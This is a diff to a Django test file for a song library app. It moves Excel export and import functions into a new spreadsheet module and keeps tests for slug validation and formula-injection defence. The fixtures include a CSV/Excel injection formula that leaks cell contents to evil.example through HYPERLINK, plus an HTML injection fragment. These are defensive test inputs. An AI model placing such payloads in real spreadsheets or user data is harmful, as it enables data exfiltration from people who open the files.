@@ -13,7 +13,7 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
-from recommender import curation
+from recommender import curation, spreadsheet
 from recommender.library import ingest_many
 from recommender.models import Recognition, Song, Tag, TypicalSong
 from webapp import ratelimit
@@ -214,7 +214,7 @@ def test_a_tag_name_is_a_slug_on_every_write_path(few_songs):
 
 def test_the_excel_import_refuses_a_tag_that_is_not_a_slug(few_songs, tmp_path):
     path = tmp_path / "library.xlsx"
-    curation.export_library(path)
+    spreadsheet.export_library(path)
     from openpyxl import load_workbook
 
     book = load_workbook(path)
@@ -222,8 +222,8 @@ def test_the_excel_import_refuses_a_tag_that_is_not_a_slug(few_songs, tmp_path):
     tags_column = [c.value for c in sheet[1]].index("tags") + 1
     sheet.cell(row=2, column=tags_column, value='"><img')
     book.save(path)
-    with pytest.raises(curation.LibraryImportError, match="slugs"):
-        curation.import_library(path)
+    with pytest.raises(spreadsheet.LibraryImportError, match="slugs"):
+        spreadsheet.import_library(path)
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1", "'quoted",
@@ -245,13 +245,13 @@ def test_the_excel_export_writes_no_formula_and_the_import_gives_the_titles_back
         Song.objects.filter(pk=song.pk).update(title=title, artist=title)
     extra = Song.objects.create(source="manual", external_id="x", title=FORMULAS[5], artist=FORMULAS[6])
     path = tmp_path / "library.xlsx"
-    curation.export_library(path)
+    spreadsheet.export_library(path)
     from openpyxl import load_workbook
 
     cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row]
     assert not [c.value for c in cells if c.data_type == "f"]
     assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
-    report = curation.import_library(path)
+    report = spreadsheet.import_library(path)
     assert report.renamed == 0 and report.rows == len(few_songs) + 1
     assert [s.title for s in Song.objects.order_by("pk")] == [*FORMULAS[:5], FORMULAS[5]]
     assert Song.objects.get(pk=extra.pk).artist == FORMULAS[6]
